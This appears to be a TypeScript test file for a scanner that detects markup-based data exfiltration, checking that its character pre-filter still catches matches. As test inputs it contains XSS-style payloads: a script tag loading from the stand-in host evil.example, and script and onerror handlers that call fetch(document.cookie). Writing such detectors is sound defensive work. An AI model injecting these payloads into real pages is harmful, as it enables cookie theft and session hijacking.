import { describe, expect, it } from 'vitest';
import { findMarkupExfiltration } from '../../workers/scan/markup-exfiltration.js';

// The script and handler patterns are run only where a text holds what every match of
// theirs holds ('>' or '//' for a script, '=' for a handler): each way a match can hold
// only one of them is still found.
const kinds = (text: string) => findMarkupExfiltration(text).map((f) => f.kind);

describe('the characters asked for before the markup patterns run', () => {
  it('finds a script tag that loads from another site with no > anywhere', () => {
    expect(kinds('notes <script src=//evil.example/x.js')).toContain('injection.active-markup');
  });

  it('finds a script body that reaches out with no // anywhere', () => {
    expect(kinds('<script>fetch(document.cookie)</script>')).toContain('injection.active-markup');
  });

  it('finds an event handler that reaches out', () => {
    expect(kinds('<img src=x onerror=fetch(document.cookie)>')).toContain('injection.active-markup');
  });

  it('finds nothing in a text of openings alone', () => {
    expect(kinds('<script<script<img<e '.repeat(50))).toEqual([]);
  });
});
